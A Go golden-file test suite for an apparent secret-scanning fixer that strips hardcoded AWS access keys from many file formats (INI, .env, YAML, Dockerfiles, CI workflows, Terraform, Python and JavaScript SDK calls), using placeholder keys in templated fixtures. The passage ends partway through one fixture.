package fix_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/hashicorp/hcl/v2/hclparse"
	"gopkg.in/ini.v1"
	"gopkg.in/yaml.v3"

	"github.com/moby/buildkit/frontend/dockerfile/parser"

	"github.com/keyscan/keyscan/fix"
	"github.com/keyscan/keyscan/internal/fakekey"
	"github.com/keyscan/keyscan/internal/fixture"
	"github.com/keyscan/keyscan/rules"
	"github.com/keyscan/keyscan/scanner"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// A case is a file with keys in it, written as a template: the test fills
// it with keys generated from a fixed seed, fixes it, and compares the diff,
// with the keys put back as placeholders, to testdata/NAME.golden.
type fixCase struct {
	name   string // golden name
	file   string // file name: decides the syntax and the scanner's context
	text   string
	manual int // findings the fix must leave for a person
}

var cases = []fixCase{
	{name: "ini-credentials", file: ".aws/credentials", text: `# work laptop
[default]
aws_access_key_id = {{ID}}
aws_secret_access_key = {{SECRET}}
region = eu-west-1

[temp]
aws_access_key_id={{ASIA}}
aws_secret_access_key={{SECRET2}}
aws_session_token={{TOKEN}}

[other]
output = json
`},
	{name: "ini-crlf", file: ".aws/credentials", text: "[default]\r\naws_access_key_id = {{ID}}\r\naws_secret_access_key = {{SECRET}}\r\nregion = us-east-1\r\n"},
	{name: "ini-config", file: "home/.aws/config", text: `[profile ci]
region = us-east-1
aws_access_key_id = {{ID}}
aws_secret_access_key = {{SECRET}}
output = json
`},
	{name: "s3cfg", file: ".s3cfg", text: "[default]\naccess_key = {{ID}}\nsecret_key = {{SECRET}}\nhost_base = s3.amazonaws.com\n"},
	{name: "dotenv", file: ".env", text: `# local settings
APP_ENV=dev
AWS_ACCESS_KEY_ID={{ID}}
export AWS_SECRET_ACCESS_KEY="{{SECRET}}"
AWS_REGION=eu-west-1
`},
	{name: "dockerfile", file: "Dockerfile", text: `FROM alpine:3.20
ARG AWS_ACCESS_KEY_ID={{ID}}
ENV AWS_SECRET_ACCESS_KEY {{SECRET}}
ENV APP_ENV=prod AWS_ACCESS_KEY_ID={{ID2}} AWS_SECRET_ACCESS_KEY={{SECRET2}} LOG=info
RUN apk add --no-cache aws-cli
CMD ["aws", "s3", "ls"]
`},
	{name: "dockerfile-continued", file: "build/app.dockerfile", text: `FROM golang:1.26
ENV APP=server \
    AWS_ACCESS_KEY_ID={{ID}} \
    AWS_SECRET_ACCESS_KEY={{SECRET}}
ENV AWS_SESSION_TOKEN={{TOKEN}} \
    REGION=us-east-1
RUN go build ./...
`},
	{name: "dockerfile-run", file: "Dockerfile", text: `FROM alpine
RUN aws configure set aws_access_key_id {{ID}} && aws s3 ls
`},
	{name: "compose-list", file: "docker-compose.yml", text: `services:
  app:
    image: example/app:1
    environment:
      - APP_ENV=prod
      - AWS_ACCESS_KEY_ID={{ID}}
      - AWS_SECRET_ACCESS_KEY={{SECRET}}
    ports:
      - "8080:8080"
  worker:
    image: example/worker:1
    environment:
      - AWS_ACCESS_KEY_ID={{ID2}}
      - AWS_SECRET_ACCESS_KEY={{SECRET2}}
    command: ["work"]
`},
	{name: "compose-map", file: "compose.yaml", text: `services:
  app:
    image: example/app:1
    environment:
      AWS_ACCESS_KEY_ID: {{ID}}
      AWS_SECRET_ACCESS_KEY: "{{SECRET}}" # TODO move
      LOG_LEVEL: debug
`},
	{name: "k8s-deployment", file: "k8s/deployment.yaml", text: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: app
spec:
  template:
    spec:
      containers:
        - name: app
          image: example/app:1
          env:
            - name: APP_ENV
              value: prod
            - name: AWS_ACCESS_KEY_ID
              value: {{ID}}
            - name: AWS_SECRET_ACCESS_KEY
              value: "{{SECRET}}"
        - name: sidecar
          image: example/sidecar:1
          env:
          - name: AWS_ACCESS_KEY_ID
            value: {{ID2}}
          - name: AWS_SECRET_ACCESS_KEY
            value: {{SECRET2}}
          ports:
          - containerPort: 9000
`},
	{name: "k8s-secret", file: "k8s/secret.yaml", text: `apiVersion: v1
kind: Secret
metadata:
  name: aws
type: Opaque
data:
  AWS_ACCESS_KEY_ID: {{ID_B64}}
  AWS_SECRET_ACCESS_KEY: {{SECRET_B64}}
---
apiVersion: v1
kind: Secret
metadata:
  name: aws-plain
stringData:
  AWS_ACCESS_KEY_ID: {{ID2}}
  AWS_SECRET_ACCESS_KEY: {{SECRET2}}
  bucket: my-bucket
`},
	{name: "k8s-configmap-file", file: "k8s/configmap.yaml", text: `apiVersion: v1
kind: ConfigMap
metadata:
  name: aws-config
data:
  credentials: |
    [default]
    aws_access_key_id = {{ID}}
    aws_secret_access_key = {{SECRET}}
  region: eu-west-1
`},
	{name: "github-actions", file: ".github/workflows/deploy.yml", text: `name: deploy
on: [push]
env:
  AWS_ACCESS_KEY_ID: {{ID}}
  AWS_SECRET_ACCESS_KEY: {{SECRET}}
jobs:
  deploy:
    runs-on: [self-hosted, linux]
    steps:
      - uses: actions/checkout@v4
      - run: aws s3 sync . s3://bucket
        env:
          AWS_DEFAULT_REGION: eu-west-1
          AWS_SESSION_TOKEN: {{TOKEN}}
`},
	{name: "gitlab-ci", file: ".gitlab-ci.yml", text: `variables:
  AWS_ACCESS_KEY_ID: "{{ID}}"
  AWS_SECRET_ACCESS_KEY: "{{SECRET}}"
deploy:
  script:
    - aws s3 ls
  tags: [ec2-runner]
`},
	{name: "compose-anchor", file: "docker-compose.yml", text: `x-aws: &aws
  AWS_ACCESS_KEY_ID: {{ID}}
  AWS_SECRET_ACCESS_KEY: {{SECRET}}
services:
  app:
    image: app:1
    environment:
      <<: *aws
      LOG_LEVEL: info
`},
	{name: "terraform", file: "infra/main.tf", text: `terraform {
  required_providers {
    aws = { source = "hashicorp/aws" }
  }
}

provider "aws" {
  region     = "eu-west-1"
  access_key = "{{ID}}"
  secret_key = "{{SECRET}}" # do not commit
}

resource "aws_s3_bucket" "b" {
  bucket = "my-bucket"
}
`},
	{name: "terraform-variable", file: "infra/variables.tf", manual: 1, text: `variable "aws_secret_key" {
  type    = string
  default = "{{SECRET}}"
}
`},
	{name: "cloudformation-yaml", file: "stack.cloudformation.yaml", text: `AWSTemplateFormatVersion: "2010-09-09"
Resources:
  Fn:
    Type: AWS::Lambda::Function
    Properties:
      Environment:
        Variables:
          AWS_KEY_ID: {{ID}}
          AWS_SECRET: {{SECRET}}
  Task:
    Type: AWS::ECS::TaskDefinition
    Properties:
      ContainerDefinitions:
        - Name: app
          Environment:
            - Name: STAGE
              Value: prod
            - Name: AWS_SECRET_ACCESS_KEY
              Value: {{SECRET2}}
`},
	{name: "cloudformation-json", file: "stack.template", text: `{
  "AWSTemplateFormatVersion": "2010-09-09",
  "Resources": {
    "Task": {
      "Type": "AWS::ECS::TaskDefinition",
      "Properties": {
        "ContainerDefinitions": [
          {
            "Name": "app",
            "Environment": [
              {"Name": "STAGE", "Value": "prod"},
              {"Name": "AWS_ACCESS_KEY_ID", "Value": "{{ID}}"},
              {"Name": "AWS_SECRET_ACCESS_KEY", "Value": "{{SECRET}}"}
            ]
          }
        ]
      }
    }
  }
}
`},
	{name: "json-config", file: "config/settings.json", text: `{
  "service": "api",
  "aws": {
    "accessKeyId": "{{ID}}",
    "secretAccessKey": "{{SECRET}}"
  },
  "s3": { "bucket": "b", "accessKeyId": "{{ID2}}", "region": "eu-west-1" },
  "logLevel": "info"
}
`},
	{name: "json-credentials-object", file: "config/s3.json", text: `{
  "region": "us-east-1",
  "credentials": {
    "accessKeyId": "{{ID}}",
    "secretAccessKey": "{{SECRET}}"
  },
  "clients": {
    "uploads": { "awsCredentials": { "accessKeyId": "{{ID2}}", "secretAccessKey": "{{SECRET2}}" } }
  }
}
`},
	{name: "yaml-credentials-object", file: "config/s3.yaml", text: `s3:
  credentials:
    accessKeyId: {{ID}}
    secretAccessKey: {{SECRET}}
uploads:
  region: us-east-1
  credentials:
    accessKeyId: {{ID2}}
    secretAccessKey: {{SECRET2}}
`},
	// qa12 LOW-2: the same pair in two blocks (two calls), the second's
	// secret (key ID) written where keyscan leaves it for a person: that
	// block's key ID (secret) stays with it; the first block is fixed.
	{name: "tf-pair-second-block", file: "infra/main.tf", manual: 2, text: `provider "aws" {
  region     = "us-east-1"
  access_key = "{{ID}}"
  secret_key = "{{SECRET}}"
}

provider "aws" {
  alias      = "three"
  access_key = "{{ID}}"
  /* block */ secret_key = "{{SECRET}}"
}
`},
	{name: "python-pair-second-call", file: "app/clients.py", manual: 2, text: `import boto3
w = boto3.client("s3", aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}")
x = boto3.client(
    "s3",
    aws_access_key_id=(
        "{{ID}}"
    ),
    aws_secret_access_key="{{SECRET}}",
)
`},
	// qa12 LOW-1: a credentials mapping that opens a list item goes, the
	// item's "- " moving to its next key; an item of nothing else goes.
	{name: "yaml-credentials-item", file: "config/clients.yaml", text: `clients:
  - credentials:
      accessKeyId: {{ID}}
      secretAccessKey: {{SECRET}}
    # the region of the uploads bucket
    region: us-east-1
  -   credentials:
        accessKeyId: {{ID2}}
        secretAccessKey: {{SECRET2}}
      region: eu-west-1
      name: b
buckets:
  - credentials:
      accessKeyId: {{ID}}
      secretAccessKey: {{SECRET}}
  - name: logs
`},
	{name: "ecs-task-json", file: "task.json", text: `{
  "family": "app",
  "containerDefinitions": [{
    "name": "app",
    "environment": [
      {"name": "AWS_ACCESS_KEY_ID", "value": "{{ID}}"},
      {
        "name": "AWS_SECRET_ACCESS_KEY",
        "value": "{{SECRET}}"
      }
    ]
  }]
}
`},
	{name: "spring-yaml", file: "src/main/resources/application.yml", text: `cloud:
  aws:
    credentials:
      access-key: {{ID}}
      secret-key: {{SECRET}}
    region:
      static: eu-west-1
`},
	{name: "spring-properties", file: "src/main/resources/application.properties", text: `# AWS
cloud.aws.credentials.access-key={{ID}}
cloud.aws.credentials.secret-key={{SECRET}}
cloud.aws.region.static=eu-west-1
`},
	// Issue 15: an emptied key whose parent would be left empty keeps its
	// place with an empty value; the parents stay; no newline is added.
	{name: "yaml-nested-env", file: "pipelines/build.yml", text: "jobs:\n  build:\n    env:\n      AWS_ACCESS_KEY_ID: {{ID}}\n      AWS_SECRET_ACCESS_KEY: {{SECRET}}"},
	{name: "yaml-nested-list", file: "docker-compose.yml", text: `services:
  app:
    environment:
      - AWS_ACCESS_KEY_ID={{ID}}
      - AWS_SECRET_ACCESS_KEY={{SECRET}} # remove
  db:
    image: postgres:16
`},
	{name: "yaml-only-keys", file: "secrets.yaml", text: "aws:\n  access_key_id: {{ID}}\n  secret_access_key: {{SECRET}}\n---\nother: 1\n"},
	{name: "dotenv-no-eol", file: ".env", text: "APP=web\r\nAWS_ACCESS_KEY_ID={{ID}}\r\nAWS_SECRET_ACCESS_KEY={{SECRET}}"},
	{name: "yaml-no-eol", file: "config/app.yaml", text: "app: web\naws_access_key_id: {{ID}}\naws_secret_access_key: {{SECRET}}"},
	// Issue 14: files recognised by content, whatever their name.
	{name: "name-aws-credentials", file: "backup/alice/aws-credentials", text: "[default]\naws_access_key_id = {{ID}}\naws_secret_access_key = {{SECRET}}\n"},
	{name: "name-credentials-bak", file: "credentials.bak", text: "[prod]\naws_access_key_id={{ID}}\naws_secret_access_key={{SECRET}}\nregion=us-east-1\n"},
	{name: "name-aws-ini", file: ".aws.ini", text: "[default]\naws_access_key_id = {{ID}}\naws_secret_access_key = {{SECRET}}\n"},
	{name: "name-aws-config", file: "aws-config", text: "[profile ci]\nregion = eu-west-1\naws_access_key_id = {{ID}}\naws_secret_access_key = {{SECRET}}\n"},
	{name: "name-env-production", file: "env.production", text: "APP_ENV=production\nAWS_ACCESS_KEY_ID={{ID}}\nAWS_SECRET_ACCESS_KEY={{SECRET}}\n"},
	{name: "name-dockerfile-worker", file: "Dockerfile.worker", text: "FROM python:3.13\nENV AWS_ACCESS_KEY_ID={{ID}} AWS_SECRET_ACCESS_KEY={{SECRET}}\nCMD [\"python\", \"worker.py\"]\n"},
	{name: "name-script-shebang", file: "bin/deploy", text: "#!/usr/bin/env bash\nset -euo pipefail\nexport AWS_ACCESS_KEY_ID={{ID}}\nexport AWS_SECRET_ACCESS_KEY={{SECRET}}\naws s3 sync dist s3://bucket\n"},
	{name: "name-dockerfile-content", file: "images/builder", text: "# syntax=docker/dockerfile:1\nFROM alpine:3.20\nARG AWS_SECRET_ACCESS_KEY={{SECRET}}\nRUN apk add aws-cli\n"},
	// Issue 14: commented-out keys are keys.
	{name: "commented-ini", file: ".aws/credentials", text: `[default]
# aws_access_key_id = {{ID}}
;aws_secret_access_key={{SECRET}}
region = eu-west-1
# old profile below, do not use
`},
	{name: "commented-env", file: ".env", text: "APP=web\n# AWS_ACCESS_KEY_ID={{ID}}\n#export AWS_SECRET_ACCESS_KEY=\"{{SECRET}}\"\nLOG=debug\n"},
	{name: "commented-yaml", file: "config/app.yml", text: `aws:
  region: eu-west-1
  # access_key_id: {{ID}}
  # secret_access_key: "{{SECRET}}"
  bucket: my-bucket
`},
	// Issue 14: aws configure set in shell, Dockerfile RUN and CI YAML.
	{name: "configure-shell", file: "scripts/setup.sh", text: `#!/bin/sh
set -e
aws configure set aws_access_key_id {{ID}}
aws configure set aws_secret_access_key "{{SECRET}}" --profile deploy
aws configure set region eu-west-1 && aws configure set aws_session_token '{{TOKEN}}' && aws s3 ls
echo start; aws configure set default.aws_access_key_id {{ID}}; echo done
aws configure set aws_secret_access_key {{SECRET}} \
  --profile ci && \
  aws sts get-caller-identity
`},
	{name: "configure-dockerfile", file: "Dockerfile", text: `FROM amazon/aws-cli:2.17
RUN aws configure set aws_access_key_id {{ID}} && \
    aws configure set aws_secret_access_key {{SECRET}} && \
    aws s3 cp s3://bucket/model.bin /opt/model.bin
RUN yum install -y jq \
    # credentials for the build
    && aws configure set aws_access_key_id {{ID2}}
RUN aws configure set aws_secret_access_key {{SECRET2}}
CMD ["serve"]
`},
	// qa10 LOW-5: a GitHub-hosted runner has no instance role: OIDC, by hand.
	{name: "github-hosted", file: ".github/workflows/deploy.yml", manual: 2, text: `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: aws-actions/configure-aws-credentials@v4
        with:
          aws-access-key-id: {{ID}}
          aws-secret-access-key: {{SECRET}}
          aws-region: us-east-1
      - run: aws s3 sync . s3://bucket
  nightly:
    runs-on:
      - self-hosted
      - x64
    env:
      AWS_ACCESS_KEY_ID: {{ID2}}
      AWS_SECRET_ACCESS_KEY: {{SECRET2}}
    steps:
      - run: make nightly
`},
	{name: "github-hosted-top-env", file: ".github/workflows/ci.yaml", manual: 2, text: `on: push
env:
  AWS_ACCESS_KEY_ID: {{ID}}
  AWS_SECRET_ACCESS_KEY: {{SECRET}}
jobs:
  build:
    runs-on: [self-hosted]
    steps:
      - run: make
  test:
    runs-on: ${{ matrix.os }}
    steps:
      - run: make test
`},
	// qa12 MEDIUM-3: runs-on as a flow mapping, a block scalar or an alias
	// is read as GitHub reads it; what keyscan does not parse is a runner
	// it cannot tell. Only the job on self-hosted labels is fixed.
	{name: "github-runs-on-shapes", file: ".github/workflows/shapes.yml", manual: 8, text: `on: push
jobs:
  larger:
    runs-on: &runner { group: larger-runners }
    env:
      AWS_ACCESS_KEY_ID: {{ID}}
      AWS_SECRET_ACCESS_KEY: {{SECRET}}
  folded:
    runs-on: >-
      ubuntu-latest
    env:
      AWS_ACCESS_KEY_ID: {{ID}}
      AWS_SECRET_ACCESS_KEY: {{SECRET}}
  alias:
    runs-on: *runner
    env:
      AWS_ACCESS_KEY_ID: {{ID}}
      AWS_SECRET_ACCESS_KEY: {{SECRET}}
  open:
    runs-on: {group: build,
      labels: linux}
    env:
      AWS_ACCESS_KEY_ID: {{ID}}
      AWS_SECRET_ACCESS_KEY: {{SECRET}}
  own:
    runs-on: {labels: [self-hosted, linux]}
    env:
      AWS_ACCESS_KEY_ID: {{ID2}}
      AWS_SECRET_ACCESS_KEY: {{SECRET2}}
`},
	{name: "github-hosted-by-content", file: "ci/deploy.yml", manual: 2, text: `"on": [push]
jobs:
  deploy:
    runs-on: macos-14
    env:
      AWS_ACCESS_KEY_ID: {{ID}}
      AWS_SECRET_ACCESS_KEY: {{SECRET}}
    steps:
      - run: make
`},
	{name: "configure-github", file: ".github/workflows/release.yml", text: `name: release
on: push
jobs:
  release:
    runs-on: [self-hosted, linux]
    steps:
      - run: aws configure set aws_access_key_id {{ID}} && aws configure set aws_secret_access_key {{SECRET}} && make release
      - name: upload
        run: |
          aws configure set aws_access_key_id {{ID2}}
          aws configure set aws_secret_access_key {{SECRET2}}
          aws s3 sync dist s3://bucket
`},
	{name: "configure-gitlab", file: ".gitlab-ci.yml", text: `deploy:
  image: amazon/aws-cli
  before_script:
    - aws configure set aws_access_key_id {{ID}}
    - aws configure set aws_secret_access_key {{SECRET}}
  script:
    - aws s3 ls
  tags:
    - ec2-runner
`},
	{name: "configure-if", file: "scripts/ci.sh", manual: 2, text: `#!/bin/bash
if [ -n "$CI" ]; then
  aws configure set aws_access_key_id {{ID}}
fi
for p in dev prod; do aws configure set aws_secret_access_key {{SECRET}} --profile "$p"; done
case "$ENV" in
  prod)
    aws configure set aws_session_token {{TOKEN}}
    ;;
esac
`},
	{name: "configure-or", file: "scripts/or.sh", manual: 1, text: "#!/bin/sh\naws configure set aws_secret_access_key {{SECRET}} || exit 1\n"},
	// Issue 14: boto3 and botocore keyword arguments.
	{name: "python-boto3", file: "app/storage.py", manual: 5, text: `import boto3
import botocore.session
from boto3 import Session

s3 = boto3.client("s3", aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}", region_name="eu-west-1")
dynamo = boto3.resource(
    "dynamodb",
    aws_access_key_id='{{ID2}}',
    aws_secret_access_key='{{SECRET2}}',
)
session = boto3.Session(
    aws_access_key_id="{{ASIA}}",
    aws_secret_access_key="{{SECRET}}",
    aws_session_token="{{TOKEN}}",
    region_name="us-east-1",  # keep
)
sqs = session.client('sqs', aws_access_key_id='{{ID}}', aws_secret_access_key='{{SECRET}}')
plain = Session(aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}")
core = botocore.session.get_session().create_client(
    "sts", region_name="eu-west-1", aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}")
`},
	{name: "python-manual", file: "app/legacy.py", manual: 2, text: `import boto3
KEY = "{{ID}}"
s3 = boto3.client("s3", aws_access_key_id=KEY, aws_secret_access_key="prefix" + "{{SECRET}}")
`},
	// Issue 14: AWS SDK for JavaScript v2 and v3.
	{name: "js-sdk-v3", file: "src/client.mjs", text: `import { S3Client } from "@aws-sdk/client-s3";
import { DynamoDBClient } from "@aws-sdk/client-dynamodb";

export const s3 = new S3Client({
  region: "eu-west-1",
  credentials: {
    accessKeyId: "{{ID}}",
    secretAccessKey: "{{SECRET}}",
  },
});
export const db = new DynamoDBClient({ credentials: { accessKeyId: '{{ID2}}', secretAccessKey: '{{SECRET2}}' }, region: "us-east-1" });
`},
	{name: "js-sdk-v2", file: "lib/aws.js", manual: 4, text: `const AWS = require("aws-sdk");

AWS.config.update({
  region: "eu-west-1",
  accessKeyId: "{{ID}}",
  secretAccessKey: "{{SECRET}}"
});
AWS.config.credentials = new AWS.Credentials("{{ID2}}", "{{SECRET2}}");
const s3 = new AWS.S3({ apiVersion: "2006-03-01", accessKeyId: "{{ID}}", secretAccessKey: "{{SECRET}}" });
const sqs = new AWS.SQS({ credentials: new AWS.Credentials({ accessKeyId: "{{ID}}", secretAccessKey: "{{SECRET}}" }) });
const re = /credentials: \{/g; // a regular expression, not an object
module.exports = { s3, sqs, re };
`},
	{name: "js-manual", file: "lib/keys.js", manual: 2, text: `const creds = new AWS.Credentials("{{ID}}", "{{SECRET}}");
module.exports = creds;
`},
	{name: "go-source", file: "main.go", manual: 1, text: "package main\n\nconst id = \"{{ID}}\"\n"},
	{name: "yaml-prose", file: "notes.yaml", manual: 1, text: "description: rotate {{ID}} before friday\n"},
	// QA-12: a client of a custom endpoint (MinIO, R2) keeps its keys: they
	// are the service's, and without them the SDK would sign its requests
	// with the instance role's. The AWS client next to it is fixed.
	{name: "python-endpoint", file: "app/store.py", manual: 6, text: `import boto3
from botocore.config import Config

minio = boto3.client("s3", endpoint_url="http://minio.local:9000", aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}")
cfg = Config(s3={"addressing_style": "path"})
r2 = boto3.resource("s3", config=cfg, aws_access_key_id="{{ID2}}", aws_secret_access_key="{{SECRET2}}")
inline = boto3.client("s3", config=Config(s3={'addressing_style': 'path'}), aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}")
aws = boto3.client("sqs", endpoint_url=None, aws_access_key_id="{{ID2}}", aws_secret_access_key="{{SECRET2}}")
`},
	// fix22: path-style addressing, which MinIO, Ceph and LocalStack need
	// and AWS has deprecated, asked for by a setting (Laravel's
	// AWS_USE_PATH_STYLE_ENDPOINT, Outline's AWS_S3_FORCE_PATH_STYLE,
	// Spring's path-style-access, a Kubernetes env entry) keeps the keys as
	// boto3's addressing_style and the SDKs' forcePathStyle do; false does not.
	{name: "path-style-env", file: "laravel/.env", manual: 2, text: `APP_NAME=shop
FILESYSTEM_DISK=s3
AWS_ACCESS_KEY_ID={{ID}}
AWS_SECRET_ACCESS_KEY={{SECRET}}
AWS_BUCKET=uploads
AWS_USE_PATH_STYLE_ENDPOINT=true
`},
	{name: "path-style-env-false", file: "laravel/.env", text: `AWS_ACCESS_KEY_ID={{ID}}
AWS_SECRET_ACCESS_KEY={{SECRET}}
AWS_USE_PATH_STYLE_ENDPOINT=false
`},
	{name: "path-style-properties", file: "src/main/resources/application.properties", manual: 2, text: `aws.s3.path-style-access=true
aws.accessKeyId={{ID}}
aws.secretKey={{SECRET}}
`},
	{name: "path-style-k8s", file: "k8s/deploy.yaml", manual: 2, text: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: outline
spec:
  template:
    spec:
      containers:
      - name: outline
        image: outlinewiki/outline
        env:
        - name: AWS_ACCESS_KEY_ID
          value: {{ID}}
        - name: AWS_SECRET_ACCESS_KEY
          value: {{SECRET}}
        - name: AWS_S3_FORCE_PATH_STYLE
          value: "true"
`},
	// fix22: AWS_EC2_METADATA_DISABLED=true turns off the instance
	// metadata service for every SDK: without its keys the program has no
	// credentials at all, so they stay, as for Terraform's
	// skip_metadata_api_check.
	{name: "metadata-off-env", file: "app/.env", manual: 2, text: `AWS_ACCESS_KEY_ID={{ID}}
AWS_SECRET_ACCESS_KEY={{SECRET}}
AWS_EC2_METADATA_DISABLED=true
`},
	{name: "metadata-off-k8s", file: "k8s/job.yaml", manual: 2, text: `apiVersion: batch/v1
kind: Job
metadata:
  name: backup
spec:
  template:
    spec:
      containers:
      - name: backup
        image: amazon/aws-cli
        env:
        - name: AWS_EC2_METADATA_DISABLED
          value: "TRUE"
        - name: AWS_ACCESS_KEY_ID
          value: {{ID}}
        - name: AWS_SECRET_ACCESS_KEY
          value: {{SECRET}}
`},
	{name: "metadata-off-python", file: "app/upload.py", manual: 2, text: `import os
import boto3

os.environ.setdefault("AWS_EC2_METADATA_DISABLED", "true")
s3 = boto3.client("s3", aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}")
`},
	// fix22: endpoints made by a dynamic block, and a path-style switch
	// set from a variable, may be on in some runs (LocalStack, MinIO): the
	// keys stay.
	{name: "terraform-dynamic-endpoints", file: "infra/main.tf", manual: 4, text: `provider "aws" {
  access_key = "{{ID}}"
  secret_key = "{{SECRET}}"
  dynamic "endpoints" {
    for_each = var.local ? [1] : []
    content {
      s3 = var.s3_url
    }
  }
}

provider "aws" {
  alias             = "store"
  access_key        = "{{ID2}}"
  secret_key        = "{{SECRET2}}"
  s3_use_path_style = var.path_style
}
`},
	// fix22: s3cmd sends a bucket's requests to host_bucket: one off AWS
	// keeps the keys even without a host_base; AWS's own does not.
	{name: "s3cfg-host-bucket", file: ".s3cfg", manual: 2, text: `[default]
access_key = {{ID}}
secret_key = {{SECRET}}
host_bucket = %(bucket)s.objects.example.net
`},
	{name: "s3cfg-host-bucket-aws", file: "aws/.s3cfg", text: `[default]
access_key = {{ID}}
secret_key = {{SECRET}}
host_base = s3.amazonaws.com
host_bucket = %(bucket)s.s3.amazonaws.com
`},
	// qa11 MEDIUM-3: endpoint_url given sixth by position, or possibly
	// through *args; a compose service whose own command passes the AWS
	// CLI's --endpoint-url, as a list on one line or an item a line.
	{name: "python-endpoint-positional", file: "app/pos.py", manual: 4, text: `import boto3

minio = boto3.client("s3", "us-east-1", None, True, None, "http://minio.internal:9000", aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}")
other = boto3.resource(*ARGS, aws_access_key_id="{{ID2}}", aws_secret_access_key="{{SECRET2}}")
`},
	{name: "compose-command-endpoint", file: "docker-compose.yml", manual: 2, text: `services:
  backup:
    image: amazon/aws-cli
    environment:
      AWS_ACCESS_KEY_ID: {{ID}}
      AWS_SECRET_ACCESS_KEY: {{SECRET}}
    command: ["--endpoint-url", "http://minio:9000", "s3", "sync", "/data", "s3://backup"]
`},
	{name: "compose-command-items", file: "compose.yaml", manual: 2, text: `services:
  backup:
    image: amazon/aws-cli
    environment:
      AWS_ACCESS_KEY_ID: {{ID}}
      AWS_SECRET_ACCESS_KEY: {{SECRET}}
    command:
      - --endpoint-url
      - http://minio:9000
      - s3
      - ls
`},
	{name: "python-endpoint-session", file: "app/session.py", manual: 2, text: `import boto3

session = boto3.Session(aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}")
s3 = session.client("s3", endpoint_url="https://acct.r2.cloudflarestorage.com")
`},
	{name: "js-endpoint-v3", file: "src/minio.ts", manual: 4, text: `import { S3Client } from "@aws-sdk/client-s3";

export const minio = new S3Client({
  region: "us-east-1",
  endpoint: "http://minio.local:9000",
  forcePathStyle: true,
  credentials: { accessKeyId: "{{ID}}", secretAccessKey: "{{SECRET}}" },
});
export const wasabi = new S3Client({ forcePathStyle: true, credentials: { accessKeyId: "{{ID2}}", secretAccessKey: "{{SECRET2}}" } });
export const aws = new S3Client({ region: "eu-west-1", forcePathStyle: false, credentials: { accessKeyId: "{{ID}}", secretAccessKey: "{{SECRET}}" } });
`},
	// qa7 MEDIUM-8: the endpoint in a plain object spread into the client's options.
	{name: "js-endpoint-spread", file: "src/c.ts", manual: 2, text: `import { S3Client } from "@aws-sdk/client-s3";

const minioOpts = { endpoint: "http://minio:9000", forcePathStyle: true };
export const s3 = new S3Client({
  ...minioOpts,
  region: "us-east-1",
  credentials: { accessKeyId: "{{ID}}", secretAccessKey: "{{SECRET}}" },
});
`},
	// qa8 HIGH-2: an endpoint that reaches the client after its options are
	// written, options from another module, an AWS_ENDPOINT_URL variable
	// and a session other modules may import keep the keys for a person.
	{name: "js-endpoint-late", file: "src/late.js", manual: 2, text: `const AWS = require("aws-sdk");
const s3 = new AWS.S3({ accessKeyId: "{{ID}}", secretAccessKey: "{{SECRET}}" });
s3.endpoint = new AWS.Endpoint("http://minio:9000");
module.exports = s3;
`},
	{name: "js-endpoint-late-options", file: "src/opts.js", manual: 2, text: `import { S3Client } from "@aws-sdk/client-s3";
const opts = { region: "us-east-1" };
opts.endpoint = "http://minio:9000";
export const s3 = new S3Client({ ...opts, credentials: { accessKeyId: "{{ID}}", secretAccessKey: "{{SECRET}}" } });
`},
	{name: "js-endpoint-imported", file: "src/client.mjs", manual: 2, text: `import { S3Client } from "@aws-sdk/client-s3";
import { minioOptions } from "./minio-config.js";
export const s3 = new S3Client({ ...minioOptions, credentials: { accessKeyId: "{{ID}}", secretAccessKey: "{{SECRET}}" } });
`},
	{name: "js-endpoint-env", file: "src/env.js", manual: 2, text: `import { S3Client } from "@aws-sdk/client-s3";
process.env.AWS_ENDPOINT_URL_S3 = "http://minio:9000";
export const s3 = new S3Client({ credentials: { accessKeyId: "{{ID}}", secretAccessKey: "{{SECRET}}" } });
`},
	{name: "python-endpoint-env", file: "py/envset.py", manual: 2, text: `import os
import boto3

os.environ["AWS_ENDPOINT_URL_S3"] = "http://minio:9000"
s3 = boto3.client("s3", aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}")
`},
	{name: "python-session-module", file: "py/awscreds.py", manual: 2, text: `import boto3

session = boto3.Session(aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}", region_name="us-east-1")
`},
	{name: "python-session-script", file: "py/report.py", text: `import boto3

session = boto3.Session(aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}", region_name="us-east-1")

if __name__ == "__main__":
    print(session.client("sts").get_caller_identity())
`},
	// QA-12 in configuration files: the endpoint is a setting of the key's
	// block (INI section, Terraform block, YAML service) or, for .env, shell
	// and Dockerfiles, of the file.
	{name: "endpoint-rclone", file: "home/.config/rclone/rclone.conf", manual: 2, text: `[minio]
type = s3
provider = Minio
access_key_id = {{ID}}
secret_access_key = {{SECRET}}
endpoint = http://minio.local:9000

[aws]
type = s3
provider = AWS
access_key_id = {{ID2}}
secret_access_key = {{SECRET2}}
region = eu-west-1
`},
	{name: "endpoint-aws-config", file: "home/.aws/config", manual: 4, text: `[profile minio]
aws_access_key_id = {{ID}}
aws_secret_access_key = {{SECRET}}
endpoint_url = http://minio.local:9000

[profile r2]
aws_access_key_id = {{ID2}}
aws_secret_access_key = {{SECRET2}}
s3 =
  endpoint_url = https://acct.r2.cloudflarestorage.com

[profile vpce]
aws_access_key_id = {{ID}}
aws_secret_access_key = {{SECRET}}
endpoint_url = https://bucket.vpce-0a1b.s3.eu-west-1.vpce.amazonaws.com
`},
	{name: "endpoint-s3cfg", file: "home/.s3cfg", manual: 2, text: `[default]
access_key = {{ID}}
secret_key = {{SECRET}}
